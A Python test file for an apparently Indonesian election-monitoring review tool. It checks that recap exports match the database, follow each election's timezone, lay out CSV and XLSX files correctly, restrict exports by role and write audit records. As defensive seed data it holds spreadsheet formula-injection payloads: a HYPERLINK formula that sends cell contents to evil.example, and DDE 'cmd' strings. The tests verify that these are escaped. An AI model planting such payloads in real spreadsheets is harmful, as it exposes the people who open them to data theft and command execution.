"""Recap exports: counts that match the database for every grouping (SQLite and PostgreSQL), the period on
the election's own clock, formula injection, the XLSX layout, the CSV encoding, the audit record, the CLI and
the dashboard download."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import func, select, text
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner
from webutil import (
    add_account,
    add_flag,
    factory_for,
    login,
    seed_basic,
    settings_for,
    sqlite_url,
    write_election,
)

from netral.db.schema import AuditRecord, Flag, User
from netral.review import exports, queue, recap
from netral.review.errors import ReviewError
from netral.review.zones import zone_book
from netral.settings import Settings
from netral.vocabulary import FlagStatus, RecapGroup

WITA_ELECTION = "pilkada-sulsel-contoh"
HOSTILE_CELLS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+62 812 coblos 2", "-2+3 pilih nomor 2",
                 "@SUM(1+1)*cmd|' /C calc'!A0")


def _seed(factory: sessionmaker[Session]) -> dict[str, int]:
    """Three units, two elections (one in WITA), every status, hostile post texts and unit names."""
    ids = seed_basic(factory)  # Budi, Dinas Pendidikan, pilkada-2024-contoh, pending, 10 Nov 2024 07.30 UTC
    with factory() as s:
        siti = add_account(s, nip="199002022015022002", name="Siti", unit="Dinas Kesehatan", handle="siti")
        evil = add_account(s, nip="199103032016031003", name="=cmd|' /C calc'!A0", unit="@Bagian Umum",
                           handle="evil")
        plan = [  # (account, status, election, created_at UTC, text, categories)
            (siti, "confirmed", "pilkada-2024-contoh", datetime(2024, 11, 2, 5, 0, tzinfo=UTC), HOSTILE_CELLS[0],
             {"ATTACK": 0.9}),
            (siti, "dismissed", "pilkada-2024-contoh", datetime(2024, 10, 15, 1, 0, tzinfo=UTC), HOSTILE_CELLS[1],
             {"SUPPORT": 0.8}),
            # 16.30 UTC on 31 Oct is 00.30 WITA on 1 Nov: a November post in a WITA election.
            (siti, "verified", WITA_ELECTION, datetime(2024, 10, 31, 16, 30, tzinfo=UTC), HOSTILE_CELLS[2],
             {"CAMPAIGN": 0.7}),
            (evil, "reported", WITA_ELECTION, datetime(2024, 11, 20, 3, 0, tzinfo=UTC), HOSTILE_CELLS[3],
             {"ATTRIBUTE": 0.95}),
            (evil, "needs_info", None, datetime(2024, 9, 30, 10, 0, tzinfo=UTC), "biasa\x01 saja\x0b",
             {}),
        ]
        for n, (account, status, election, when, body, cats) in enumerate(plan):
            flag = add_flag(s, account, post_id=f"90{n}", text=body, status=status, election=election,
                            created_at=when)
            flag.categories = cats
        s.commit()
    return ids


@pytest.fixture
def env(db_url: str, tmp_path: Path) -> Iterator[tuple[sessionmaker[Session], Settings, dict[str, int]]]:
    factory = factory_for(db_url)
    elections = tmp_path / "elections"
    write_election(elections, WITA_ELECTION, "Asia/Makassar")
    write_election(elections, "pilkada-2024-contoh", "Asia/Jakarta")
    settings = settings_for(db_url, tmp_path, elections_dir=elections)
    yield factory, settings, _seed(factory)
    factory.kw["bind"].dispose()


def _zones(settings: Settings):  # type: ignore[no-untyped-def]
    return zone_book(settings.elections_dir, settings.default_timezone)


def _as_counts(data: recap.Recap) -> dict[tuple[str, str], int]:
    return {(row.key, status): n for row in data.rows for status, n in row.counts.items() if n}


_SQL = ("SELECT {key}, f.status, COUNT(*) FROM flags f JOIN posts p ON p.id = f.post_id "
        "JOIN accounts a ON a.id = p.account_id GROUP BY {key}, f.status")


@pytest.mark.parametrize("group,key", [(RecapGroup.UNIT, "a.unit"), (RecapGroup.ELECTION, "COALESCE(f.election, '')"),
                                       (RecapGroup.STATUS, "f.status")])
def test_recap_counts_match_the_database(env, group: RecapGroup, key: str) -> None:  # type: ignore[no-untyped-def]
    factory, settings, _ = env
    with factory() as s:
        data = recap.build(s, recap.RecapFilter(), group, _zones(settings))
        expected = {(str(k), str(st)): n for k, st, n in s.execute(text(_SQL.format(key=key)))}
        total = s.scalar(select(func.count()).select_from(Flag))
    assert _as_counts(data) == expected
    assert data.totals.total == total == 6 == sum(r.total for r in data.rows)
    assert data.totals.counts == {st: sum(n for (_, s2), n in expected.items() if s2 == st) for st in FlagStatus}
    assert len(data.detail) == total


def test_recap_by_category_and_month(env) -> None:  # type: ignore[no-untyped-def]
    factory, settings, _ = env
    with factory() as s:
        flags = list(s.scalars(select(Flag)))
        by_cat = Counter(queue.top_category(f) or "" for f in flags)
        months: Counter[str] = Counter()
        for flag in flags:
            zone = ZoneInfo("Asia/Makassar" if flag.election == WITA_ELECTION else "Asia/Jakarta")
            months[flag.post.created_at.astimezone(zone).strftime("%Y-%m")] += 1
        cat = recap.build(s, recap.RecapFilter(), RecapGroup.CATEGORY, _zones(settings))
        month = recap.build(s, recap.RecapFilter(), RecapGroup.MONTH, _zones(settings))
    assert {r.key: r.total for r in cat.rows} == dict(by_cat)
    assert {r.key: r.total for r in month.rows} == dict(months)
    assert [r.key for r in month.rows] == sorted(months)  # time order
    assert months == {"2024-09": 1, "2024-10": 1, "2024-11": 4}  # the 00.30 WITA post is a November post
    labels = {r.key: r.label for r in month.rows}
    assert labels["2024-11"] == "November 2024"


def test_period_and_filters_use_the_elections_clock(env) -> None:  # type: ignore[no-untyped-def]
    factory, settings, _ = env
    zones = _zones(settings)
    with factory() as s:
        nov1 = recap.build(s, recap.RecapFilter(date_from=date(2024, 11, 1), date_to=date(2024, 11, 1)),
                           RecapGroup.STATUS, zones)
        # In WIB the same post is a 31 October post: with no zone for the election it falls outside.
        wib = recap.build(s, recap.RecapFilter(date_from=date(2024, 11, 1), date_to=date(2024, 11, 1)),
                          RecapGroup.STATUS, zone_book(Path("/nonexistent"), "Asia/Jakarta"))
        unit = recap.build(s, recap.RecapFilter(unit="Dinas Kesehatan", status="confirmed"), RecapGroup.UNIT, zones)
        cat = recap.build(s, recap.RecapFilter(category="ATTRIBUTE"), RecapGroup.UNIT, zones)
    assert [d.flag_id for d in nov1.detail] and all(d.election == WITA_ELECTION for d in nov1.detail)
    assert nov1.detail[0].zone == "WITA" and nov1.detail[0].posted_local == datetime(2024, 11, 1, 0, 30)
    assert wib.totals.total == 0
    assert unit.totals.total == 1 and unit.rows[0].counts["confirmed"] == 1
    assert cat.totals.total == 1 and cat.rows[0].key == "@Bagian Umum"


def test_csv_is_excel_utf8_with_bom_and_escapes_formulas(env) -> None:  # type: ignore[no-untyped-def]
    factory, settings, _ = env
    with factory() as s:
        made = exports.export_recap(s, settings, user=None, flt=recap.RecapFilter(), group=RecapGroup.UNIT,
                                    fmt="csv", detail=True)
        s.commit()
        record = s.scalars(select(AuditRecord).where(AuditRecord.action == "export.recap")).one()
    assert made.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(made.data.decode("utf-8-sig"))))
    assert rows[0] == list(exports.DETAIL_HEADER) and len(rows) == 7
    texts = {row[-1] for row in rows[1:]}
    for hostile in HOSTILE_CELLS:
        assert "'" + hostile in texts, hostile  # apostrophe first: shown as text, never evaluated
    names = {row[5] for row in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in names
    assert all(not cell.startswith(exports.FORMULA_START) for row in rows for cell in row), "unescaped cell"
    assert record.actor == "cli" and record.after["flags"] == 6 and record.after["format"] == "csv"  # type: ignore[index]


def test_csv_recap_has_totals_and_semicolon_option(env) -> None:  # type: ignore[no-untyped-def]
    factory, settings, _ = env
    with factory() as s:
        made = exports.export_recap(s, settings, user=None, flt=recap.RecapFilter(), group=RecapGroup.UNIT,
                                    fmt="csv", delimiter=";")
        s.rollback()
    rows = list(csv.reader(io.StringIO(made.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["Unit kerja", "Total indikasi"] and rows[-1][:2] == ["Jumlah", "6"]
    assert "'@Bagian Umum" in [r[0] for r in rows]
    assert sum(int(r[1]) for r in rows[1:-1]) == 6


def test_xlsx_opens_with_header_frozen_panes_totals_and_text_cells(env) -> None:  # type: ignore[no-untyped-def]
    factory, settings, ids = env
    with factory() as s:
        made = exports.export_recap(s, settings, user=None, flt=recap.RecapFilter(), group=RecapGroup.STATUS,
                                    fmt="xlsx")
        s.commit()
    wb = openpyxl.load_workbook(io.BytesIO(made.data))
    assert wb.sheetnames == ["Rekap", "Rincian", "Keterangan"]
    ws = wb["Rekap"]
    header = [c.value for c in ws[1]]
    assert header == ["Status indikasi", "Total indikasi", *FlagStatus.labels().values()]
    assert ws["A1"].font.bold and ws.freeze_panes == "B2"
    assert ws.column_dimensions["A"].width >= len("Dikonfirmasi (menunggu verifikasi)")
    last = ws.max_row
    assert ws.cell(last, 1).value == "Jumlah" and ws.cell(last, 1).font.bold
    assert ws.cell(last, 2).value == 6 == sum(ws.cell(r, 2).value for r in range(2, last))
    for col in range(3, 3 + len(FlagStatus)):
        assert ws.cell(last, col).value == sum(ws.cell(r, col).value for r in range(2, last))
    assert [ws.cell(r, 1).value for r in range(2, last)] == [FlagStatus.label_of(s) for s in FlagStatus.values()]

    detail = wb["Rincian"]
    assert detail.freeze_panes == "A2" and detail.auto_filter.ref == "A1:O7"
    assert [c.value for c in detail[1]] == list(exports.DETAIL_HEADER)
    text_col = len(exports.DETAIL_HEADER)
    cells = {detail.cell(r, text_col).value: detail.cell(r, text_col) for r in range(2, detail.max_row + 1)}
    for hostile in HOSTILE_CELLS:
        cell = cells[hostile]
        assert cell.data_type == "s" and cell.quotePrefix, hostile  # a text cell, never a formula
    assert "biasa\ufffd saja\ufffd" in cells  # control characters XLSX cannot hold are replaced
    name_cell = next(detail.cell(r, 6) for r in range(2, detail.max_row + 1)
                     if detail.cell(r, 6).value == "=cmd|' /C calc'!A0")
    assert name_cell.data_type == "s"
    wita = next(r for r in range(2, detail.max_row + 1) if detail.cell(r, 3).value == WITA_ELECTION
                and detail.cell(r, 10).value == datetime(2024, 11, 1, 0, 30))
    assert detail.cell(wita, 11).value == "WITA"
    notes = {wb["Keterangan"].cell(r, 1).value: wb["Keterangan"].cell(r, 2).value
             for r in range(1, wb["Keterangan"].max_row + 1)}
    assert notes["Jumlah indikasi"] == "6" and notes["Dibuat oleh"] == "cli"


def test_only_supervisors_and_admins_export(env) -> None:  # type: ignore[no-untyped-def]
    factory, settings, ids = env
    with factory() as s:
        for name in ("rina", "ana"):
            with pytest.raises(ReviewError) as err:
                exports.export_recap(s, settings, user=s.get(User, ids[name]), flt=recap.RecapFilter(),
                                     group=RecapGroup.UNIT, fmt="csv")
            assert err.value.kind == "forbidden"
        made = exports.export_recap(s, settings, user=s.get(User, ids["sari"]), flt=recap.RecapFilter(),
                                    group=RecapGroup.UNIT, fmt="xlsx")
        s.commit()
        assert made.flags == 6
        assert s.scalars(select(AuditRecord.actor).where(AuditRecord.action == "export.recap")).all() == ["sari"]


def test_cli_export_recap_writes_the_file_atomically(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from netral.cli import app
    from netral.settings import get_settings

    url = sqlite_url(tmp_path)
    elections = tmp_path / "elections"
    write_election(elections, WITA_ELECTION, "Asia/Makassar")
    monkeypatch.setenv("NETRAL_DATABASE_URL", url)
    monkeypatch.setenv("NETRAL_DATA_DIR", str(tmp_path / "var"))
    monkeypatch.setenv("NETRAL_ELECTIONS_DIR", str(elections))
    get_settings.cache_clear()
    factory = factory_for(url)
    _seed(factory)
    runner = CliRunner()
    out = tmp_path / "rekap.xlsx"
    try:
        result = runner.invoke(app, ["export", "recap", "--format", "xlsx", "--by", "unit", "--from", "2024-11-01",
                                     "--to", "2024-11-30", "--out", str(out)])
        assert result.exit_code == 0, result.output
        ws = openpyxl.load_workbook(out)["Rekap"]
        assert ws.cell(ws.max_row, 2).value == 4  # the four November posts (one of them by WITA's clock)
        assert not list(tmp_path.glob(".rekap.xlsx.*.tmp"))  # no temporary file left beside it
        csv_out = tmp_path / "rincian.csv"
        result = runner.invoke(app, ["export", "recap", "--by", "election", "--detail", "--out", str(csv_out)])
        assert result.exit_code == 0, result.output
        assert csv_out.read_bytes().startswith(b"\xef\xbb\xbf")
        for bad, needle in ((["--by", "week"], "--by"), (["--from", "2024-13-01"], "--from"),
                            (["--status", "open"], "--status"), (["--format", "pdf"], "--format")):
            result = runner.invoke(app, ["export", "recap", "--out", str(tmp_path / "x.csv"), *bad])
            assert result.exit_code == 1 and needle in result.output, (bad, result.output)
        assert not (tmp_path / "x.csv").exists()
        with factory() as s:
            assert s.scalar(select(func.count()).select_from(AuditRecord)
                            .where(AuditRecord.action == "export.recap")) == 2
    finally:
        factory.kw["bind"].dispose()
        get_settings.cache_clear()


def test_dashboard_download_buttons_use_the_current_filter(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from netral.serve.app import create_app

    url = sqlite_url(tmp_path)
    factory = factory_for(url)
    _seed(factory)
    elections = tmp_path / "elections"
    write_election(elections, WITA_ELECTION, "Asia/Makassar")
    settings = settings_for(url, tmp_path, elections_dir=elections)
    supervisor = TestClient(create_app(settings))
    login(supervisor, "sari")
    page = supervisor.get("/dashboard?unit=Dinas+Kesehatan&by=status").text
    assert 'formaction="/dashboard/export"' in page and 'value="xlsx"' in page
    assert re.search(r'<option value="Dinas Kesehatan"\s+selected', page)
    response = supervisor.get("/dashboard/export?format=xlsx&by=status&unit=Dinas+Kesehatan")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith(exports.MEDIA_TYPES["xlsx"])
    assert re.match(r'attachment; filename="netral-rekap-status-\d{8}-\d{4}\.xlsx"',
                    response.headers["content-disposition"])
    ws = openpyxl.load_workbook(io.BytesIO(response.content))["Rekap"]
    assert ws.cell(ws.max_row, 2).value == 3  # Siti's three flags only
    csv_response = supervisor.get("/dashboard/export?format=csv&by=unit&date_from=2024-11-01&date_to=2024-11-30")
    assert csv_response.status_code == 200 and csv_response.content.startswith(b"\xef\xbb\xbf")
    assert supervisor.get("/dashboard/export?format=pdf").status_code == 400
    reviewer = TestClient(create_app(settings))
    login(reviewer, "rina")
    assert 'formaction="/dashboard/export"' not in reviewer.get("/dashboard").text
    assert reviewer.get("/dashboard/export?format=csv").status_code == 403
    with factory() as s:
        actors = s.scalars(select(AuditRecord.actor).where(AuditRecord.action == "export.recap")).all()
        assert actors == ["sari", "sari"]
    factory.kw["bind"].dispose()
